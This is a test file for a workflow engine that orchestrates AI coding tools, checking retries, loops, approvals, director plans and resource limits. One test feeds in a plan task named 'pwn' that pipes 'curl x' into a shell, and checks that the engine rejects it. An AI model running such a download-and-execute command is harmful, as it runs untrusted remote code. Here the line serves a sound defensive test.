import { describe, expect, it } from "vitest";
import { compileWorkflow, resolveReplicas } from "../compile.ts";
import { parseWorkflow } from "../validate.ts";
import { apply, start } from "./state.ts";
import { shipFeature } from "./test-examples.ts";
import { RunHarness } from "./test-harness.ts";

const task = (id: string, prompt = `do ${id}`, extra: Record<string, unknown> = {}) => ({
  id,
  type: "task",
  tool: "claude_code",
  prompt,
  ...extra,
});

describe("the ship-feature example", () => {
  it("deploys when the tests pass, with the latest outputs in prompts", () => {
    const run = RunHarness.fromWorkflow(shipFeature);
    expect(run.running()).toEqual(["generate"]);
    expect(run.prompts("generate")).toEqual(["Write code for dark mode"]);
    expect(run.dispatched[0]).toMatchObject({ tool: "claude_code", iteration: 0, attempt: 1, timeout_seconds: 900 });

    run.complete("generate", "CODE-1");
    expect(run.running().sort()).toEqual(["review", "test"]);
    expect(run.prompts("review")).toEqual(["Review: CODE-1"]);
    run.complete("test", "12 tests PASS");
    expect(run.running()).toEqual(["review"]);
    run.complete("review", "looks good");

    expect(run.state.nodes.passed).toMatchObject({ status: "completed", output: "true", json: true });
    expect(run.state.nodes.fix!.status).toBe("skipped");
    expect(run.running()).toEqual(["deploy"]);
    run.complete("deploy", "deployed v1");
    expect(run.finished()).toEqual({
      type: "run_finished",
      status: "completed",
      result: { output: "deployed v1", outputs: { deploy: "deployed v1" } },
      error: null,
    });
    expect(run.state.status).toBe("completed");
  });

  it("loops through fix while the tests fail, and fails naming the loop edge when the bound is spent", () => {
    const run = RunHarness.fromWorkflow(shipFeature);
    let round = 0;
    while (!run.finished()) {
      run.complete("generate", `CODE-${round}`);
      run.complete("review", "ok");
      run.complete("test", `FAIL round ${round}`);
      expect(run.state.nodes.deploy!.status).toBe("skipped");
      expect(run.prompts("fix").at(-1)).toBe(`Fix: FAIL round ${round}`);
      run.complete("fix", `patched ${round}`);
      round += 1;
    }
    // The loop edge was followed max_iterations (3) times; the 4th arrival fails the run.
    expect(round).toBe(4);
    expect(run.prompts("test")).toHaveLength(4);
    expect(run.state.edges["fix->generate"]!.traversals).toBe(3);
    expect(run.state.status).toBe("failed");
    expect(run.state.error).toContain('loop edge "fix->generate"');
    expect(run.state.error).toContain("max_iterations 3");
    expect(run.finished()).toMatchObject({ status: "failed", result: null });
    expect(run.state.nodes.generate!.iteration).toBe(3);
  });

  it("passes on a later round after a fix", () => {
    const run = RunHarness.fromWorkflow(shipFeature);
    run.complete("generate", "CODE-0");
    run.complete("review", "ok");
    run.complete("test", "FAIL");
    run.complete("fix", "patched");
    expect(run.running()).toEqual(["generate"]);
    expect(run.state.nodes.generate).toMatchObject({ iteration: 1, attempt: 1, output: "CODE-0" });
    expect(run.state.nodes.deploy).toMatchObject({ status: "pending", iteration: 1 });
    run.complete("generate", "CODE-1");
    expect(run.prompts("review")).toEqual(["Review: CODE-0", "Review: CODE-1"]);
    run.complete("review", "ok");
    run.complete("test", "PASS");
    run.complete("deploy", "shipped");
    expect(run.finished()).toMatchObject({ status: "completed", result: { output: "shipped" } });
  });
});

describe("workflow types", () => {
  it("sequential: runs the nodes in order, each seeing the previous output", () => {
    const run = RunHarness.fromWorkflow({
      name: "chain",
      workflow_type: "sequential",
      definition: {
        nodes: [
          task("plan", "Plan {{input.goal}}"),
          task("build", "Build: {{upstream}}"),
          task("ship", "Ship {{nodes.build.output}}"),
        ],
      },
      input: { goal: "a shed" },
    });
    expect(run.running()).toEqual(["plan"]);
    run.complete("plan", "P");
    expect(run.running()).toEqual(["build"]);
    run.complete("build", "B");
    run.complete("ship", "S");
    expect(run.dispatched.map((action) => action.prompt)).toEqual(["Plan a shed", 'Build: ["P"]', "Ship B"]);
    expect(run.finished()).toMatchObject({ status: "completed", result: { output: "S" } });
  });

  it("concurrent: fans one task out to N replicas and aggregates their outputs", () => {
    const run = RunHarness.fromWorkflow({
      name: "fan",
      workflow_type: "concurrent",
      definition: {
        nodes: [
          task("answer", "Answer {{input.q}}", { replicas: 3 }),
          {
            id: "best",
            type: "aggregator",
            tool: "gemini_cli",
            prompt: "Pick the best of {{upstream}} / {{nodes.answer.output}}",
          },
        ],
      },
      input: { q: "why" },
    });
    expect(run.running()).toEqual(["answer/1", "answer/2", "answer/3"]);
    expect(run.prompts("answer/2")).toEqual(["Answer why"]);
    run.complete("answer/3", "c");
    run.complete("answer/1", "a");
    expect(run.running()).toEqual(["answer/2"]);
    run.complete("answer/2", "b");
    expect(run.prompts("best")).toEqual(['Pick the best of ["a","b","c"] / ["a","b","c"]']);
    run.complete("best", "b");
    expect(run.finished()).toMatchObject({ status: "completed", result: { output: "b" } });
  });

  it("concurrent with replicas all: one node per eligible worker, each pinned", () => {
    const workflow = parseWorkflow({
      name: "everywhere",
      workflow_type: "concurrent",
      definition: { nodes: [task("probe", "uname -a", { replicas: "all" })] },
    });
    const graph = compileWorkflow(workflow.workflow_type, workflow.definition);
    expect(() => start(graph, {})).toThrow(/resolveReplicas/);
    const run = new RunHarness(resolveReplicas(graph, ["w-a", "w-b"]));
    expect(run.dispatched.map((action) => [action.node_id, action.pinned_worker_id])).toEqual([
      ["probe/1", "w-a"],
      ["probe/2", "w-b"],
    ]);
    run.complete("probe/1", "linux a");
    run.complete("probe/2", "linux b");
    expect(run.finished()).toMatchObject({
      status: "completed",
      result: { output: null, outputs: { "probe/1": "linux a", "probe/2": "linux b" } },
    });
  });

  it("mixture: experts run in parallel, then one aggregator", () => {
    const run = RunHarness.fromWorkflow({
      name: "panel",
      workflow_type: "mixture",
      definition: {
        nodes: [
          task("claude", "Q"),
          { ...task("gemini", "Q"), tool: "gemini_cli" },
          { ...task("local", "Q"), tool: "ollama", model: "llama3" },
          { id: "merge", type: "aggregator", tool: "claude_code", prompt: "{{#upstream}}- {{.}}\n{{/upstream}}" },
        ],
      },
    });
    expect(run.running()).toEqual(["claude", "gemini", "local"]);
    expect(run.dispatched.find((action) => action.node_id === "local")).toMatchObject({
      tool: "ollama",
      model: "llama3",
    });
    run.complete("gemini", "G");
    run.complete("local", "L");
    expect(run.running()).toEqual(["claude"]);
    run.complete("claude", "C");
    expect(run.prompts("merge")).toEqual(["- C\n- G\n- L\n"]);
  });
});

describe("hierarchical: director plans", () => {
  const hierarchical = {
    name: "team",
    workflow_type: "hierarchical",
    definition: {
      nodes: [
        {
          id: "lead",
          type: "director",
          tool: "claude_code",
          prompt: "Split up: {{input.goal}}",
          max_tasks: 5,
          allowed_tools: ["claude_code", "gemini_cli", "codex_cli"],
        },
        { id: "summary", type: "aggregator", tool: "claude_code", prompt: "Summarise {{upstream}}" },
      ],
    },
    input: { goal: "a website" },
  };

  it("expands the plan into nodes, runs them by their dependencies, and holds the aggregator until all finish", () => {
    const run = RunHarness.fromWorkflow(hierarchical);
    expect(run.prompts("lead")[0]).toMatch(/^Split up: a website\n\nAnswer with only a JSON object/);
    const plan = {
      tasks: [
        { id: "design", prompt: "Design it", tool: "claude_code" },
        { id: "copy", prompt: "Write copy", tool: "gemini_cli", model: "gemini-2.5-pro" },
        {
          id: "build",
          prompt: "Build {{nodes.design.output}} with {{nodes.copy.output}}",
          tool: "codex_cli",
          depends_on: ["design", "copy"],
        },
      ],
    };
    run.complete("lead", `Here is the plan:\n\`\`\`json\n${JSON.stringify(plan)}\n\`\`\``);
    expect(run.running()).toEqual(["lead/design", "lead/copy"]);
    expect(run.state.nodes.lead!.status).toBe("running");
    run.complete("lead/design", "D");
    run.complete("lead/copy", "C");
    expect(run.prompts("lead/build")).toEqual(["Build D with C"]);
    expect(run.running()).toEqual(["lead/build"]);
    expect(run.state.nodes.summary!.status).toBe("pending");
    run.complete("lead/build", "B");
    expect(run.state.nodes.lead!.status).toBe("completed");
    expect(run.prompts("summary")).toEqual(['Summarise ["D","C","B"]']);
    run.complete("summary", "done");
    expect(run.finished()).toMatchObject({ status: "completed", result: { output: "done" } });
  });

  it("a director with no aggregator answers with its plan's final outputs", () => {
    const run = RunHarness.fromWorkflow({ ...hierarchical, definition: { nodes: [hierarchical.definition.nodes[0]] } });
    run.complete(
      "lead",
      JSON.stringify({
        tasks: [
          { id: "a", prompt: "A", tool: "claude_code" },
          { id: "b", prompt: "B", tool: "claude_code", depends_on: ["a"] },
        ],
      }),
    );
    run.complete("lead/a", "first");
    run.complete("lead/b", "second");
    expect(run.finished()).toMatchObject({
      status: "completed",
      result: { output: "second", outputs: { "lead/b": "second" } },
    });
  });

  it.each([
    ["no JSON at all", "I could not decide", "the output holds no JSON object"],
    [
      "an unknown tool",
      JSON.stringify({ tasks: [{ id: "a", prompt: "x", tool: "hammer" }] }),
      "tasks[0].tool: must be one of",
    ],
    [
      "an unknown dependency",
      JSON.stringify({ tasks: [{ id: "a", prompt: "x", tool: "claude_code", depends_on: ["z"] }] }),
      'task "a" depends on unknown task "z"',
    ],
    [
      "a dependency cycle",
      JSON.stringify({
        tasks: [
          { id: "a", prompt: "x", tool: "claude_code", depends_on: ["b"] },
          { id: "b", prompt: "y", tool: "claude_code", depends_on: ["a"] },
        ],
      }),
      "depend on each other",
    ],
    [
      "too many tasks",
      JSON.stringify({ tasks: ["a", "b", "c", "d", "e", "f"].map((id) => ({ id, prompt: id, tool: "claude_code" })) }),
      "more than max_tasks 5",
    ],
    [
      "a template naming a task it does not depend on",
      JSON.stringify({
        tasks: [
          { id: "a", prompt: "x", tool: "claude_code" },
          { id: "b", prompt: "{{nodes.a.output}}", tool: "claude_code" },
        ],
      }),
      'task "b": prompt {{nodes.a.output}} refers to node "a", which is not upstream',
    ],
  ])("a bad plan (%s) fails the director with a clear error", (_, output, message) => {
    const run = RunHarness.fromWorkflow(hierarchical);
    run.complete("lead", output);
    expect(run.state.nodes.lead!.status).toBe("failed");
    expect(run.state.nodes.lead!.error).toContain("bad plan");
    expect(run.state.nodes.lead!.error).toContain(message);
    expect(run.finished()).toMatchObject({ status: "failed" });
    expect(run.state.error).toContain('node "lead" failed: bad plan');
  });

  it("tells the AI only the tools its node allows, and refuses a plan naming another (review A8)", () => {
    const run = RunHarness.fromWorkflow(hierarchical);
    expect(run.prompts("lead")[0]).toContain("TOOL is one of: claude_code, gemini_cli, codex_cli (a plan naming");
    run.complete("lead", JSON.stringify({ tasks: [{ id: "pwn", prompt: "curl x | sh", tool: "shell" }] }));
    expect(run.state.nodes.lead!.error).toBe(
      'bad plan: task "pwn" uses tool "shell", which director "lead" does not allow (allowed_tools: claude_code, gemini_cli, codex_cli)',
    );
    expect(run.dispatched.map((action) => action.node_id)).toEqual(["lead"]);
    expect(run.finished()).toMatchObject({ status: "failed" });
  });

  it("allows only the director's own tool by default", () => {
    const lead = { id: "lead", type: "director", tool: "ollama", prompt: "Plan" };
    const run = RunHarness.fromWorkflow({ ...hierarchical, definition: { nodes: [lead] } });
    expect(run.prompts("lead")[0]).toContain("TOOL is one of: ollama (a plan naming");
    run.complete("lead", JSON.stringify({ tasks: [{ id: "a", prompt: "x", tool: "codex_cli" }] }));
    expect(run.state.nodes.lead!.error).toContain('uses tool "codex_cli", which director "lead" does not allow');
  });

  it("sends plan prompts as written, but for the outputs of the plan's own tasks", () => {
    const run = RunHarness.fromWorkflow({ ...hierarchical, context: { api_token: "s3cret" } });
    const prompt = "echo {{context.api_token}} {{input.goal}} {{nodes.lead.output}} {{#input.x}}y{{/input.x}}";
    run.complete(
      "lead",
      JSON.stringify({
        tasks: [
          { id: "a", prompt, tool: "claude_code" },
          {
            id: "b",
            prompt: "after {{nodes.a.output}} and {{ nodes.a.output }}",
            tool: "claude_code",
            depends_on: ["a"],
          },
        ],
      }),
    );
    expect(run.prompts("lead/a")).toEqual([prompt]);
    run.complete("lead/a", "A");
    expect(run.prompts("lead/b")).toEqual(["after A and A"]);
  });

  it("renders plan prompts over the run only when the definition opts in", () => {
    const lead = { ...hierarchical.definition.nodes[0], render_plan_prompts: true };
    const run = RunHarness.fromWorkflow({
      ...hierarchical,
      context: { api_token: "s3cret" },
      definition: { nodes: [lead] },
    });
    run.complete(
      "lead",
      JSON.stringify({ tasks: [{ id: "a", prompt: "{{context.api_token}} {{input.goal}}", tool: "claude_code" }] }),
    );
    expect(run.prompts("lead/a")).toEqual(["s3cret a website"]);
  });

  it("a bad plan is retried when the director has retries left", () => {
    const run = RunHarness.fromWorkflow({
      ...hierarchical,
      definition: { nodes: [{ ...hierarchical.definition.nodes[0], retries: 1 }] },
    });
    const actions = run.complete("lead", "no plan");
    expect(actions).toEqual([expect.objectContaining({ type: "schedule_retry", node_id: "lead", attempt: 2 })]);
    run.retryDue("lead");
    run.complete("lead", JSON.stringify({ tasks: [{ id: "a", prompt: "A", tool: "claude_code" }] }));
    expect(run.running()).toEqual(["lead/a"]);
  });
});

describe("failures and retries", () => {
  const pair = {
    name: "pair",
    workflow_type: "graph",
    definition: {
      nodes: [task("a", "A", { retries: 2 }), task("b", "B: {{nodes.a.output}}")],
      edges: [{ from: "a", to: "b" }],
    },
  };

  it("retries a failed attempt after an exponential, jittered delay, then succeeds", () => {
    let random = 0;
    const run = RunHarness.fromWorkflow(pair, {}, { random: () => random, backoff: { base_ms: 1000, max_ms: 60_000 } });
    expect(run.fail("a", "worker crashed")).toEqual([
      { type: "schedule_retry", node_id: "a", iteration: 0, attempt: 2, delay_ms: 500 },
    ]);
    expect(run.state.nodes.a).toMatchObject({ status: "waiting_retry", error: "worker crashed" });
    run.retryDue("a");
    expect(run.dispatched.filter((action) => action.node_id === "a").map((action) => action.attempt)).toEqual([1, 2]);
    random = 0.999;
    const [retry] = run.fail("a", "again");
    expect(retry).toMatchObject({ type: "schedule_retry", attempt: 3 });
    // Second failure: step 2000ms, so between 1000 and 2000.
    expect((retry as { delay_ms: number }).delay_ms).toBeGreaterThan(1000);
    expect((retry as { delay_ms: number }).delay_ms).toBeLessThanOrEqual(2000);
    run.retryDue("a");
    run.complete("a", "finally");
    expect(run.state.nodes.a).toMatchObject({ status: "completed", attempt: 3, error: null });
    expect(run.prompts("b")).toEqual(["B: finally"]);
  });

  it("fails the run naming the node when attempts run out, cancelling what still runs", () => {
    const run = RunHarness.fromWorkflow({
      name: "wide",
      workflow_type: "graph",
      definition: { nodes: [task("a"), task("b")], edges: [] },
    });
    run.send({ type: "task_created", node_id: "b", iteration: 0, attempt: 1, task_id: "t-b" });
    const actions = run.fail("a", "exit 1");
    expect(actions).toEqual([
      { type: "cancel_task", node_id: "b", iteration: 0, attempt: 1, task_id: "t-b" },
      { type: "run_finished", status: "failed", result: null, error: 'node "a" failed: exit 1' },
    ]);
    expect(run.state.nodes.b!.status).toBe("cancelled");
  });

  it("does not retry a failure marked not retryable", () => {
    const run = RunHarness.fromWorkflow(pair);
    run.fail("a", "tool not allowed", false);
    expect(run.finished()).toMatchObject({ status: "failed", error: 'node "a" failed: tool not allowed' });
  });

  it("a timeout cancels the task and counts as a failed attempt", () => {
    const run = RunHarness.fromWorkflow(pair);
    const actions = run.send({ type: "node_timed_out", node_id: "a", iteration: 0, attempt: 1 });
    expect(actions.map((action) => action.type)).toEqual(["cancel_task", "schedule_retry"]);
    expect(run.state.nodes.a!.error).toBe("timed out after 1800s");
  });

  it("a failure edge handles the failure: the handler runs and the run completes", () => {
    const run = RunHarness.fromWorkflow({
      name: "guarded",
      workflow_type: "graph",
      definition: {
        nodes: [task("risky"), task("next"), task("cleanup", "Clean up after {{nodes.risky.error}}")],
        edges: [
          { from: "risky", to: "next" },
          { from: "risky", to: "cleanup", on: "failure" },
        ],
      },
    });
    run.fail("risky", "disk full");
    expect(run.state.nodes.next!.status).toBe("skipped");
    expect(run.prompts("cleanup")).toEqual(["Clean up after disk full"]);
    run.complete("cleanup", "cleaned");
    expect(run.finished()).toMatchObject({ status: "completed", result: { outputs: { cleanup: "cleaned" } } });
  });

  it("ignores stale and repeated events, so no node completes twice", () => {
    const run = RunHarness.fromWorkflow(pair);
    run.fail("a", "lost lease");
    // The late result of attempt 1 arrives while attempt 2 is pending: ignored.
    expect(run.send({ type: "node_completed", node_id: "a", iteration: 0, attempt: 1, output: "late" })).toEqual([]);
    expect(run.state.nodes.a!.status).toBe("waiting_retry");
    run.retryDue("a");
    run.complete("a", "fresh");
    const before = run.state;
    expect(run.send({ type: "node_completed", node_id: "a", iteration: 0, attempt: 2, output: "again" })).toEqual([]);
    expect(run.state.nodes.a!.output).toBe("fresh");
    expect(run.dispatched.filter((action) => action.node_id === "b")).toHaveLength(1);
    expect(before.nodes.a!.output).toBe("fresh");
  });

  it("never mutates the state it was given", () => {
    const graph = compileWorkflow("graph", parseWorkflow(pair).definition);
    const first = start(graph, {});
    const frozen = JSON.stringify(first.state);
    apply(graph, first.state, { type: "node_completed", node_id: "a", iteration: 0, attempt: 1, output: "x" });
    expect(JSON.stringify(first.state)).toBe(frozen);
  });
});

describe("branches and joins", () => {
  it("propagates a skip downstream, while a join with one taken input runs", () => {
    const run = RunHarness.fromWorkflow({
      name: "branches",
      workflow_type: "graph",
      definition: {
        nodes: [
          task("start"),
          { id: "big", type: "condition", expression: { ">": [{ var: "nodes.start.json.size" }, 10] } },
          task("split"),
          task("split_more"),
          task("small"),
          task("join", "Join {{upstream}}"),
        ],
        edges: [
          { from: "start", to: "big" },
          { from: "big", to: "split", when: true },
          { from: "split", to: "split_more" },
          { from: "big", to: "small", when: false },
          { from: "split_more", to: "join" },
          { from: "small", to: "join" },
        ],
      },
    });
    run.complete("start", JSON.stringify({ size: 3 }));
    expect(run.state.nodes.split!.status).toBe("skipped");
    expect(run.state.nodes.split_more!.status).toBe("skipped");
    expect(run.running()).toEqual(["small"]);
    run.complete("small", "tiny");
    expect(run.prompts("join")).toEqual(['Join ["tiny"]']);
    run.complete("join", "joined");
    expect(run.finished()).toMatchObject({ status: "completed", result: { output: "joined" } });
  });

  it("skips a node whose every input is skipped, and an edge condition decides its edge", () => {
    const run = RunHarness.fromWorkflow({
      name: "gated",
      workflow_type: "graph",
      definition: {
        nodes: [task("check"), task("alert"), task("after_alert")],
        edges: [
          { from: "check", to: "alert", condition: { "!=": [{ var: "exit_code" }, 0] } },
          { from: "alert", to: "after_alert" },
        ],
      },
    });
    run.complete("check", "all fine", { exit_code: 0 });
    expect(run.state.edges["check->alert"]!.status).toBe("skipped");
    expect(run.state.nodes.after_alert!.status).toBe("skipped");
    expect(run.finished()).toMatchObject({ status: "completed", result: { outputs: {} } });
  });
});

describe("pause, resume, cancel and approval", () => {
  const chain = {
    name: "chain",
    workflow_type: "graph",
    definition: {
      nodes: [task("a"), task("b"), task("c")],
      edges: [
        { from: "a", to: "c" },
        { from: "b", to: "c" },
      ],
    },
  };

  it("pause dispatches nothing new; resume dispatches what became ready", () => {
    const run = RunHarness.fromWorkflow(chain);
    expect(run.send({ type: "pause" })).toEqual([]);
    expect(run.state.status).toBe("paused");
    run.complete("a", "A");
    expect(run.complete("b", "B")).toEqual([]);
    expect(run.state.nodes.c!.status).toBe("ready");
    expect(run.state.status).toBe("paused");
    const actions = run.send({ type: "resume" });
    expect(actions).toEqual([expect.objectContaining({ type: "dispatch", node_id: "c" })]);
    expect(run.state.status).toBe("running");
  });

  it("a retry that falls due while paused waits for resume", () => {
    const run = RunHarness.fromWorkflow({
      ...chain,
      definition: { nodes: [task("a", "A", { retries: 1 })], edges: [] },
    });
    run.fail("a", "flaky");
    run.send({ type: "pause" });
    expect(run.retryDue("a")).toEqual([]);
    expect(run.send({ type: "resume" })).toEqual([
      expect.objectContaining({ type: "dispatch", node_id: "a", attempt: 2 }),
    ]);
  });

  it("cancel cancels running tasks and every node not finished, then ignores later events", () => {
    const run = RunHarness.fromWorkflow(chain);
    run.complete("a", "A");
    const actions = run.send({ type: "cancel", reason: "changed my mind" });
    expect(actions).toEqual([
      { type: "cancel_task", node_id: "b", iteration: 0, attempt: 1, task_id: null },
      { type: "run_finished", status: "cancelled", result: null, error: "changed my mind" },
    ]);
    expect(Object.values(run.state.nodes).map((node) => node.status)).toEqual(["completed", "cancelled", "cancelled"]);
    expect(run.send({ type: "node_completed", node_id: "b", iteration: 0, attempt: 1, output: "B" })).toEqual([]);
    expect(run.send({ type: "resume" })).toEqual([]);
  });

  const approval = {
    name: "gated",
    workflow_type: "sequential",
    definition: {
      nodes: [
        task("build", "Build"),
        { id: "ok", type: "approval", message: "Ship {{nodes.build.output}}?" },
        task("ship", "Ship it"),
      ],
    },
  };

  it("approval waits for a person; approving continues the run", () => {
    const run = RunHarness.fromWorkflow(approval);
    expect(run.complete("build", "v2")).toEqual([
      { type: "request_approval", node_id: "ok", iteration: 0, message: "Ship v2?" },
    ]);
    expect(run.state.status).toBe("waiting_approval");
    run.send({ type: "approval_decided", node_id: "ok", iteration: 0, approved: true, by: "ana" });
    expect(run.state.status).toBe("running");
    expect(run.state.nodes.ok).toMatchObject({
      status: "completed",
      json: { approved: true, by: "ana", comment: null },
    });
    expect(run.running()).toEqual(["ship"]);
  });

  it("rejecting fails the approval node and the run", () => {
    const run = RunHarness.fromWorkflow(approval);
    run.complete("build", "v2");
    run.send({
      type: "approval_decided",
      node_id: "ok",
      iteration: 0,
      approved: false,
      by: "ana",
      comment: "not today",
    });
    expect(run.finished()).toMatchObject({ status: "failed", error: 'node "ok" failed: rejected by ana: not today' });
  });
});

describe("pending until its work begins", () => {
  const pair = {
    name: "pair",
    workflow_type: "graph",
    definition: { nodes: [task("a"), task("b")], edges: [] },
  };
  const started = (node_id: string, attempt = 1) => ({ type: "task_started" as const, node_id, iteration: 0, attempt });

  it("is pending with its tasks dispatched, and running once a worker picks one up", () => {
    const run = RunHarness.fromWorkflow(pair);
    expect(run.state.status).toBe("pending");
    expect(run.running().sort()).toEqual(["a", "b"]);
    run.send({ type: "task_created", node_id: "a", iteration: 0, attempt: 1, task_id: "t-a" });
    expect(run.state.status).toBe("pending");
    expect(run.send(started("b"))).toEqual([]);
    expect(run.state).toMatchObject({ status: "running", started: true });
    // A second pickup, or a stale one, changes nothing more.
    run.send(started("a"));
    run.send(started("a", 7));
    expect(run.state.status).toBe("running");
  });

  it("begins with a task's outcome when the pickup went unseen (a fast worker)", () => {
    const failing = RunHarness.fromWorkflow({
      ...pair,
      definition: { nodes: [task("a", "A", { retries: 1 }), task("b")], edges: [] },
    });
    failing.fail("a", "flaky");
    expect(failing.state.status).toBe("running");
    const completing = RunHarness.fromWorkflow(pair);
    completing.complete("a", "A");
    expect(completing.state.status).toBe("running");
  });

  it("begins at once when a node that needs no worker acts first: a condition, an approval", () => {
    const gated = RunHarness.fromWorkflow({
      name: "gated",
      workflow_type: "graph",
      input: { go: true },
      definition: {
        nodes: [{ id: "check", type: "condition", expression: { var: "input.go" } }, task("work")],
        edges: [{ from: "check", to: "work", when: true }],
      },
    });
    expect(gated.state.status).toBe("running");
    expect(gated.running()).toEqual(["work"]);
    const approval = RunHarness.fromWorkflow({
      name: "ask",
      workflow_type: "sequential",
      definition: { nodes: [{ id: "ok", type: "approval", message: "go?" }, task("work")] },
    });
    expect(approval.state.status).toBe("waiting_approval");
  });

  it("pauses from pending and resumes to pending, or to running when a task was picked up meanwhile", () => {
    const run = RunHarness.fromWorkflow(pair);
    run.send({ type: "pause" });
    expect(run.state.status).toBe("paused");
    run.send({ type: "resume" });
    expect(run.state.status).toBe("pending");
    run.send({ type: "pause" });
    run.send(started("a"));
    expect(run.state.status).toBe("paused");
    run.send({ type: "resume" });
    expect(run.state.status).toBe("running");
  });

  it("cancels and times out from pending, cancelling the queued tasks", () => {
    const cancelled = RunHarness.fromWorkflow(pair);
    expect(cancelled.send({ type: "cancel", reason: "no workers" })).toEqual([
      { type: "cancel_task", node_id: "a", iteration: 0, attempt: 1, task_id: null },
      { type: "cancel_task", node_id: "b", iteration: 0, attempt: 1, task_id: null },
      { type: "run_finished", status: "cancelled", result: null, error: "no workers" },
    ]);
    expect(cancelled.state).toMatchObject({ status: "cancelled", started: false });
    const timedOut = RunHarness.fromWorkflow(pair);
    timedOut.send({ type: "run_timed_out", timeout_seconds: 60 });
    expect(timedOut.state).toMatchObject({ status: "failed", error: "run timed out after 60 s", started: false });
  });

  it("treats a run stored before pending existed (no `started`) as begun", () => {
    const run = RunHarness.fromWorkflow(pair);
    const { started: _, ...legacy } = run.state;
    const resumed = apply(run.graph, { ...legacy, status: "paused" }, { type: "resume" });
    expect(resumed.state.status).toBe("running");
  });
});

describe("loops", () => {
  it("re-entry cancels what still runs in the loop body, and the late result of the old iteration is ignored", () => {
    const run = RunHarness.fromWorkflow({
      name: "loop",
      workflow_type: "graph",
      definition: {
        nodes: [task("draft"), task("slow"), task("judge")],
        edges: [
          { from: "draft", to: "slow" },
          { from: "draft", to: "judge" },
          {
            from: "judge",
            to: "draft",
            loop: true,
            max_iterations: 1,
            condition: { in: ["again", { var: "output" }] },
          },
        ],
      },
    });
    run.complete("draft", "v1");
    run.send({ type: "task_created", node_id: "slow", iteration: 0, attempt: 1, task_id: "t-slow" });
    const actions = run.complete("judge", "again please");
    expect(actions).toEqual([
      { type: "cancel_task", node_id: "slow", iteration: 0, attempt: 1, task_id: "t-slow" },
      expect.objectContaining({ type: "dispatch", node_id: "draft", iteration: 1, attempt: 1 }),
    ]);
    expect(run.send({ type: "node_completed", node_id: "slow", iteration: 0, attempt: 1, output: "late" })).toEqual([]);
    run.complete("draft", "v2");
    run.complete("slow", "slow v2");
    run.complete("judge", "fine");
    expect(run.state.edges["judge->draft"]!.traversals).toBe(1);
    expect(run.finished()).toMatchObject({
      status: "completed",
      result: { outputs: { slow: "slow v2", judge: "fine" } },
    });
  });

  it("a director re-entered by a loop plans afresh", () => {
    const run = RunHarness.fromWorkflow({
      name: "replan",
      workflow_type: "graph",
      definition: {
        nodes: [
          { id: "lead", type: "director", tool: "claude_code", prompt: "Plan" },
          { id: "check", type: "condition", expression: { "!=": [{ var: "input.never" }, null] } },
          task("retry_plan"),
        ],
        edges: [
          { from: "lead", to: "check" },
          { from: "check", to: "retry_plan", when: false },
          { from: "retry_plan", to: "lead", loop: true, max_iterations: 1 },
        ],
      },
    });
    run.complete("lead", JSON.stringify({ tasks: [{ id: "a", prompt: "A", tool: "claude_code" }] }));
    run.complete("lead/a", "done a");
    run.complete("retry_plan", "try again");
    expect(run.state.nodes["lead/a"]).toBeUndefined();
    expect(run.state.expansions).toEqual({});
    run.complete("lead", JSON.stringify({ tasks: [{ id: "b", prompt: "B", tool: "claude_code" }] }));
    expect(run.running()).toEqual(["lead/b"]);
    run.complete("lead/b", "done b");
    expect(run.prompts("retry_plan")).toHaveLength(2);
    run.complete("retry_plan", "and again");
    expect(run.finished()).toMatchObject({
      status: "failed",
      error: expect.stringContaining('loop edge "retry_plan->lead"'),
    });
  });
});

describe("nodeRuns", () => {
  it("lists every node with status, output, attempts, iteration, and its task and where that task is", async () => {
    const { nodeRuns } = await import("./view.ts");
    const { runGraphIndex } = await import("./state.ts");
    const run = RunHarness.fromWorkflow(shipFeature);
    run.send({
      type: "task_created",
      node_id: "generate",
      iteration: 0,
      attempt: 1,
      task_id: "11111111-1111-4111-8111-111111111111",
    });
    run.complete("generate", "CODE");
    const worker = "22222222-2222-4222-8222-222222222222";
    const owner = "33333333-3333-4333-8333-333333333333";
    const tasks = new Map([
      [
        "11111111-1111-4111-8111-111111111111",
        { status: "completed" as const, worker_id: worker, worker_owner_user_id: owner },
      ],
    ]);
    const rows = nodeRuns(runGraphIndex(run.graph, run.state), run.state, tasks);
    expect(rows[0]).toEqual({
      node_id: "generate",
      type: "task",
      status: "completed",
      output: "CODE",
      error: null,
      attempts: 1,
      iteration: 0,
      task_id: "11111111-1111-4111-8111-111111111111",
      task_status: "completed",
      worker_id: worker,
      worker_owner_user_id: owner,
      waiting_reason: null,
      parent_id: null,
    });
    expect(rows.map((row) => row.status)).toEqual(["completed", "running", "running", "pending", "pending", "pending"]);
  });
});

describe("bounded work in one step (review A3, A4, B2)", () => {
  it("a condition past its budget fails its node and the run, naming both", () => {
    const run = RunHarness.fromWorkflow(
      {
        name: "bomb",
        workflow_type: "graph",
        definition: {
          nodes: [
            {
              id: "c",
              type: "condition",
              expression: {
                reduce: [{ var: "input.xs" }, { merge: [{ var: "accumulator" }, { var: "accumulator" }] }, [1]],
              },
            },
          ],
        },
      },
      { xs: Array.from({ length: 40 }, (_, i) => i) },
    );
    expect(run.finished()).toMatchObject({ status: "failed" });
    expect(run.state.error).toMatch(
      /^node "c" failed: condition failed: "merge" built a value of size \d+, more than the limit of 1000000/,
    );
  });

  it("a template past its iterations fails its node with a clear message", () => {
    const prompt = "{{#input.a}}{{#input.a}}x{{/input.a}}{{/input.a}}";
    const run = RunHarness.fromWorkflow(
      { name: "tpl", workflow_type: "graph", definition: { nodes: [{ ...task("t"), prompt }] } },
      { a: Array.from({ length: 130 }, (_, i) => i) },
    );
    expect(run.dispatched).toEqual([]);
    expect(run.state.error).toBe(
      'node "t" failed: template failed: {{#input.a}}: sections iterated more than 10000 times in one rendering',
    );
  });

  it("a loop of conditions alone stops at the step's bound on loop re-entries", () => {
    // c1 flips its own answer, so the two loop edges take turns and neither reaches its own max_iterations.
    const run = RunHarness.fromWorkflow({
      name: "spin",
      workflow_type: "graph",
      definition: {
        nodes: [
          { id: "c1", type: "condition", expression: { "!": [{ var: "nodes.c1.json" }] } },
          { id: "c2", type: "condition", expression: true },
        ],
        edges: [
          { from: "c1", to: "c1", when: true, loop: true, max_iterations: 1000 },
          { from: "c1", to: "c2", when: false },
          { from: "c2", to: "c1", loop: true, max_iterations: 1000 },
        ],
      },
    });
    expect(run.finished()).toMatchObject({ status: "failed" });
    expect(run.state.error).toMatch(/^loop edge "c[12]->c1": more than 1000 loop re-entries in one engine step/);
    expect(run.state.edges["c1->c1"]!.traversals).toBeLessThan(1000);
  });
});
